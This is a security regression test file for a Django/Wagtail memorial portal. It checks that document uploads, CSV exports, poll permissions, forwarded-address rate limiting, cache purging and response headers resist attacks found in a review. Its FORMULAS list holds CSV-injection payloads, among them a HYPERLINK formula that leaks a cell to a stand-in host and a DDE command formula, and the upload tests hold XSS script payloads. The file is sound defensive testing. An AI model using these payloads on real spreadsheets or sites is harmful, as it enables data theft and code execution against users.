"""The holes a hostile review found (issue 14), each tried again exactly as it was attacked,
in-process. What depends on the production settings (media served by the app, gunicorn,
Redis) is tried over real HTTP in tests/test_security_servers.py; the link checker in
tests/test_links.py; malformed admin posts in tests/test_admin_malformed.py."""

import csv
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from wagtail.documents.models import Document
from wagtail.models import Collection, Page

from core.spreadsheets import safe_cell
from editorial.setup import CONTRIBUTORS, EDITORS
from ops import cache as page_cache
from pages.models import ContactPage, NewsIndexPage
from polls.models import PollPage
from remembrance.models import NameRecord
from tests.test_contact import url_of, valid
from tests.test_remembrance_contributions import FORM_URLS, proposal

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def formula_cells(rows) -> list[str]:
    """Cells a spreadsheet would run: they start with = + - @, or tab or CR before one."""
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# -- 1. script uploaded as a document ----------------------------------------------------
@pytest.mark.parametrize("name, content", [
    ("x.js", b"alert(document.cookie)"),
    ("x.html", b'<script src="/media/documents/x.js"></script>'),
    ("x.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("x.xml", b"<?xml version='1.0'?><x/>"),
    ("x.htm", b"<script>alert(1)</script>"),
])
def test_a_contributor_cannot_upload_script_as_a_document(contributor, name, content):
    collection = Collection.objects.get(name="Contributions")
    response = contributor.post(reverse("wagtaildocs:add"), {
        "title": "Attack", "collection": collection.pk,
        "file": SimpleUploadedFile(name, content, content_type="text/html"),
    })
    assert response.status_code == 200  # the form again, with the reason in the editor's
    html = response.content.decode()  # language, naming the refused and the allowed formats
    assert f"“{name.rsplit('.', 1)[1]}”" in html and "pdf, txt, csv" in html
    assert not Document.objects.filter(title="Attack").exists()


def test_a_contributor_still_uploads_a_pdf(contributor):
    collection = Collection.objects.get(name="Contributions")
    response = contributor.post(reverse("wagtaildocs:add"), {
        "title": "Report scan", "collection": collection.pk,
        "file": SimpleUploadedFile("report.pdf", b"%PDF-1.4\n%%EOF\n",
                                   content_type="application/pdf"),
    })
    assert response.status_code == 302
    assert Document.objects.get(title="Report scan").file_extension == "pdf"


def test_served_documents_are_downloads_that_cannot_run_anything(client):
    document = Document.objects.create(
        title="Old upload", file=SimpleUploadedFile("old-upload.html", b"<script>x</script>"))
    response = client.get(document.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy


# -- 3. spreadsheet formulas in CSV exports ----------------------------------------------
def test_safe_cell_neutralises_every_formula_and_leaves_numbers():
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("Xocalı, 26 fevral") == "Xocalı, 26 fevral"
    assert safe_cell(-5) == -5 and safe_cell(12.5) == 12.5


def test_a_readers_formulas_reach_the_submissions_csv_as_text(client, admin_client):
    contact = ContactPage.objects.get()
    for formula in FORMULAS[:3]:
        data = {**valid("en"), "mesajiniz": formula, "adiniz": formula}
        assert client.post(url_of(contact, "en"), data).status_code in (200, 302)
    export = admin_client.get(f"/admin/forms/submissions/{contact.pk}/?export=csv")
    rows = rows_of(export)
    assert formula_cells(rows) == []
    cells = [cell for row in rows for cell in row]
    for formula in FORMULAS[:3]:
        assert "'" + formula in cells


def test_a_contributors_draft_title_reaches_the_reports_as_text(contributor, admin_client):
    news = NewsIndexPage.objects.get()
    title = FORMULAS[0]
    response = contributor.post(
        reverse("wagtailadmin_pages:add", args=["pages", "newspage", news.pk]),
        _news_draft(title),
    )
    assert response.status_code == 302, response.content.decode()[:1000]
    assert Page.objects.filter(title_az=title).exists()
    for url in [
        "/admin/reports/translation-status/?export=csv",  # the portal's report
        "/admin/reports/site-history/?export=csv",  # one of Wagtail's own
    ]:
        rows = rows_of(admin_client.get(url))
        cells = [cell for row in rows for cell in row]
        assert any(cell.startswith("'" + title) for cell in cells), url
        assert formula_cells(rows) == [], url


def _news_draft(title):
    from wagtail.test.utils.form_data import nested_form_data, streamfield

    return nested_form_data({
        "title_az": title, "slug_az": "hucum-basligi", "date": "2027-02-20",
        "summary_az": "Qısa.",
        "body_az": streamfield([]), "body_en": streamfield([]), "body_ru": streamfield([]),
        "gallery_images-TOTAL_FORMS": "0", "gallery_images-INITIAL_FORMS": "0",
        "gallery_images-MIN_NUM_FORMS": "0", "gallery_images-MAX_NUM_FORMS": "1000",
        "tagged_items-TOTAL_FORMS": "0", "tagged_items-INITIAL_FORMS": "0",
        "footnotes-TOTAL_FORMS": "0", "footnotes-INITIAL_FORMS": "0",  # sources cited
    })


def test_a_proposed_name_reaches_the_register_export_as_text(client, admin_client):
    """Names come from readers' proposals: the register's export keeps them as text."""
    assert client.post(FORM_URLS["en"], proposal(name_az=FORMULAS[2])).status_code == 302
    rows = rows_of(admin_client.get("/admin/snippets/remembrance/namerecord/?export=csv"))
    assert ["'" + FORMULAS[2]] == [row[0] for row in rows if row[0].endswith(FORMULAS[2])]
    assert formula_cells(rows) == []


def test_poll_results_csv_keeps_answers_as_text(editor):
    poll = PollPage.objects.first()
    choice = poll.choices.first()
    choice.label_en = FORMULAS[1]  # the admin (English here) names each answer in its language
    choice.save()
    rows = rows_of(editor.get(reverse("poll_results_csv", args=[poll.pk])))
    assert formula_cells(rows) == []
    assert any(row[2] == "'" + FORMULAS[1] for row in rows[1:])


# -- 4. poll results are for editors -----------------------------------------------------
def test_the_poll_results_permission_exists_and_editors_have_it():
    permission = Permission.objects.get(codename="view_poll_results")
    assert Group.objects.get(name=EDITORS).permissions.filter(pk=permission.pk).exists()
    assert not Group.objects.get(name=CONTRIBUTORS).permissions.filter(
        pk=permission.pk).exists()


def test_a_contributor_cannot_read_poll_results(contributor, editor):
    poll = PollPage.objects.first()
    for url in [reverse("poll_results"), reverse("poll_results_csv", args=[poll.pk])]:
        refused = contributor.get(url)  # Wagtail sends them to the dashboard with a message
        assert (refused.status_code, refused.get("Location")) == (302, "/admin/"), url
        assert editor.get(url).status_code == 200, url
    # The sidebar menu (Reports) lists it for editors only.
    assert "/admin/poll-results/" not in contributor.get("/admin/").content.decode()
    assert "/admin/poll-results/" in editor.get("/admin/").content.decode()


# -- 5. forged client addresses ----------------------------------------------------------
def test_a_forged_forwarded_for_does_not_reset_the_contact_limit(settings):
    """No proxy in front: the header is the client's own words and is ignored."""
    settings.TRUSTED_PROXY_COUNT = 0
    settings.CONTACT_RATE_LIMIT = 3
    url = url_of(ContactPage.objects.get(), "en")
    statuses = [
        Client().post(url, valid("en"), REMOTE_ADDR="192.0.2.77",
                      HTTP_X_FORWARDED_FOR=f"198.51.100.{n}").status_code
        for n in range(5)
    ]
    assert statuses[3:] == [429, 429]


def test_behind_a_proxy_only_the_address_it_appended_counts(settings):
    """One trusted proxy: entries the client wrote to the left of its address are ignored,
    and another reader behind the same proxy is not limited."""
    settings.TRUSTED_PROXY_COUNT = 1
    settings.CONTACT_RATE_LIMIT = 3
    url = url_of(ContactPage.objects.get(), "en")

    def post(forwarded):
        return Client().post(url, valid("en"), REMOTE_ADDR="10.0.0.2",
                             HTTP_X_FORWARDED_FOR=forwarded).status_code

    statuses = [post(f"203.0.113.{n}, 198.51.100.7") for n in range(5)]
    assert statuses[3:] == [429, 429]
    assert post("198.51.100.8") in (200, 302)


# -- 6. nothing a reader does empties the cache ------------------------------------------
def test_a_readers_proposal_leaves_the_cache_and_the_proxy_alone(
    client, purge_endpoint, django_capture_on_commit_callbacks
):
    generation = page_cache.current_generation()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(FORM_URLS["en"], proposal())
    assert response.status_code == 302
    record = NameRecord.objects.get(name_az="Test Person Proposed")
    assert not record.live
    assert page_cache.current_generation() == generation
    assert purge_endpoint == []

    # Publishing it is a change: every page that may list it is invalidated and purged.
    with django_capture_on_commit_callbacks(execute=True):
        record.get_latest_revision().publish()
    assert page_cache.current_generation() != generation
    assert purge_endpoint


def test_votes_and_messages_leave_the_cache_alone(client, purge_endpoint,
                                                  django_capture_on_commit_callbacks):
    generation = page_cache.current_generation()
    poll = PollPage.objects.filter(live=True).first()
    contact = ContactPage.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url_of(contact, "en"), valid("en"))
        client.post(url_of(poll, "en"), {"choice": poll.choices.first().pk})
    assert page_cache.current_generation() == generation
    assert purge_endpoint == []


# -- headers -----------------------------------------------------------------------------
def test_pages_switch_off_powerful_features_and_cross_origin_reads(client):
    response = client.get("/en/")
    assert "camera=()" in response["Permissions-Policy"]
    assert "geolocation=()" in response["Permissions-Policy"]
    assert "microphone=()" in response["Permissions-Policy"]
    assert response["Cross-Origin-Resource-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]


def test_the_admin_frames_itself_and_says_so_in_both_headers(admin_client):
    response = admin_client.get("/admin/")
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert "frame-ancestors 'self'" in response["Content-Security-Policy"]


def test_a_preview_may_be_framed_by_the_admin_and_the_live_page_by_nobody(client, admin_client):
    """Wagtail renders a preview through the middleware as a request for the public URL; the
    admin's side panel must be able to frame it, while the page readers get stays unframed."""
    from django.contrib.auth import get_user_model
    from django.test import RequestFactory

    from pages.models import MemorialArticlePage

    page = MemorialArticlePage.objects.get()
    request = RequestFactory().get(f"/admin/pages/{page.pk}/edit/preview/?mode=en")
    request.user = get_user_model().objects.get(username="admin")
    request.META["HTTP_COOKIE"] = "sessionid=" + admin_client.cookies["sessionid"].value
    for mode in ("az", "en", "ru"):
        preview = page.make_preview_request(request, mode)
        assert "frame-ancestors 'self'" in preview["Content-Security-Policy"]
        assert f'<html lang="{mode}"' in preview.content.decode()
    public = client.get(page.url)
    assert "frame-ancestors 'none'" in public["Content-Security-Policy"]
    assert public["X-Frame-Options"] == "DENY"
